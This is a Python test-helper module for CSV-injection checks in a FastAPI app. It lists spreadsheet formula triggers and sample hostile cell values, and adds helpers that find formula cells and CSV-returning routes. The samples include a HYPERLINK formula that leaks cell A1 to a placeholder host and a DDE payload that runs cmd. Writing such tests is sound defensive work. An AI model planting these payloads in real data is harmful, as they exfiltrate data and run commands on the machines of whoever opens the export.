"""For CSV export tests: the formula-like text to plant in user fields, the routes that answer CSV,
and the cells of a document a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re

from fastapi import FastAPI

# OWASP's CSV injection triggers, written out again here so the check does not trust the code it checks.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What a hostile or careless caller types into a name, one per trigger (names lose leading whitespace).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Wang\r=1+1",  # a line break inside a cell must not start a row at the formula after it
    "Wang\n@SUM(1+1)",
)
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def formula_cells(document: str) -> list[str]:
    """Every cell that starts with a trigger and is not a number: what a spreadsheet would evaluate."""
    cells = [value for row in csv.reader(io.StringIO(document, newline="")) for value in row]
    return [value for value in cells if value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)]


def csv_routes(app: FastAPI) -> set[tuple[str, str]]:
    """(method, path) of every operation whose OpenAPI document says it answers text/csv."""
    return {
        (method, path)
        for path, operations in app.openapi()["paths"].items()
        for method, operation in operations.items()
        if any("text/csv" in response.get("content", {}) for response in operation.get("responses", {}).values())
    }
